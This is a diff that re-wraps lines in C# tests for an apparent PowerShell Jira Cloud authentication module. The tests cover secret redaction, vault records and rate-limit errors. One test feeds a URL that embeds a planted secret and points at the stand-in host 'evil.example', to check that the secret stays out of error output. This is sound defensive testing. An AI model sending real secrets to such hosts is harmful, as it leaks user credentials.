@@ -56,7 +56,8 @@ namespace JiraAuth.PowerShell.Tests
         public void F1_a_secret_typed_into_the_path_stays_out_of_the_error_record()
         {
             _session.ConnectAdmin();
-            var result = _session.Run("Invoke-JiraRestMethod -Path $Bad", new Dictionary<string, object> { ["Bad"] = "http://user:" + Planted + "@evil.example/rest/api/3/myself" }, verbose: true, debug: true);
+            var result = _session.Run("Invoke-JiraRestMethod -Path $Bad", new Dictionary<string,
+                object> { ["Bad"] = "http://user:" + Planted + "@evil.example/rest/api/3/myself" }, verbose: true, debug: true);
 
             Assert.Equal("JiraInvalidArgument", result.SingleError.FullyQualifiedErrorId.Split(',')[0]);
             AssertNothingOf(Planted, result);
@@ -111,7 +112,8 @@ namespace JiraAuth.PowerShell.Tests
                 using (var b = PS.Create())
                 {
                     b.Runspace = runspaceB;
-                    b.AddScript("$env:PSModulePath = $args[0] + [IO.Path]::PathSeparator + $env:PSModulePath; Import-Module $args[1]; Import-Module $args[2]; " +
+                    b.AddScript("$env:PSModulePath = $args[0] + [IO.Path]::PathSeparator + $env:PSModulePath; Import-Module $args[1]; Import-Module "
+                        + "$args[2]; " +
                                 "Invoke-JiraRestMethod project/search -Connection shared -MaximumRetryCount 0")
                         .AddArgument(Repository.StubModules).AddArgument(Repository.StubSecretManagement).AddArgument(Repository.ModuleManifest);
                     var call = Task.Run(() => b.Invoke());
@@ -132,8 +134,10 @@ namespace JiraAuth.PowerShell.Tests
         {
             _session.Run("Set-StubVaultState -Vaults Stub, Second").AssertNoErrors();
             var parameters = _session.CloudParameters(("Email", FakeAccounts.AdminEmail), ("Token", Ps.Secure(FakeAccounts.AdminClassicToken)));
-            _session.Run("Connect-JiraCloud -Site $Site -Email $Email -ApiToken $Token -Name prod -Save -Vault Second -AllowUnencryptedAuthentication -GatewayUri $Gateway", parameters).AssertNoErrors();
-            _session.Run("Connect-JiraCloud -Site $Site -Email $Email -ApiToken $Token -Name other -Save -Vault Stub -AllowUnencryptedAuthentication -GatewayUri $Gateway", parameters).AssertNoErrors();
+            _session.Run("Connect-JiraCloud -Site $Site -Email $Email -ApiToken $Token -Name prod -Save -Vault Second -AllowUnencryptedAuthentication "
+                + "-GatewayUri $Gateway", parameters).AssertNoErrors();
+            _session.Run("Connect-JiraCloud -Site $Site -Email $Email -ApiToken $Token -Name other -Save -Vault Stub -AllowUnencryptedAuthentication "
+                + "-GatewayUri $Gateway", parameters).AssertNoErrors();
             _session.Run("Disconnect-JiraCloud -All; Set-StubVaultState -Vaults Stub, Second -LockedVaults Second").AssertNoErrors();
 
             var connect = _session.Run("Connect-JiraCloud -Name prod").SingleError;
@@ -168,7 +172,9 @@ namespace JiraAuth.PowerShell.Tests
         [Fact]
         public void F7_a_damaged_vault_record_is_JiraInvalidConnectionRecord_with_the_remedy()
         {
-            _session.Run("Set-Secret -Name 'JiraAuth:broken' -Vault Stub -Secret '{\"version\":1,\"name\":\"broken\",\"site\":\"https://acme.atlassian.net\",\"authMode\":{},\"userName\":\"a@b.c\",\"secret\":\"x\"}' -Metadata @{ Site = 'https://acme.atlassian.net' }").AssertNoErrors();
+            _session.Run("Set-Secret -Name 'JiraAuth:broken' -Vault Stub -Secret "
+                + "'{\"version\":1,\"name\":\"broken\",\"site\":\"https://acme.atlassian.net\",\"authMode\":{},\"userName\":\"a@b.c\",\"secret\":\"x\"}' "
+                + "-Metadata @{ Site = 'https://acme.atlassian.net' }").AssertNoErrors();
 
             var error = _session.Run("Connect-JiraCloud -Name broken -Vault Stub").SingleError;
 
@@ -217,7 +223,8 @@ namespace JiraAuth.PowerShell.Tests
         public void MaximumRetryCount_zero_reports_the_first_429_with_its_reset_time()
         {
             _session.ConnectAdmin();
-            _session.Cloud.Faults.Enqueue("/rest/api/3/myself", 429, new Dictionary<string, string> { ["Retry-After"] = "1" }, "{}", "application/json", times: 2);
+            _session.Cloud.Faults.Enqueue("/rest/api/3/myself", 429, new Dictionary<string, string> { ["Retry-After"] = "1" }, "{}", "application/json",
+                times: 2);
 
             var error = _session.Run("Invoke-JiraRestMethod myself -MaximumRetryCount 0").SingleError;
 
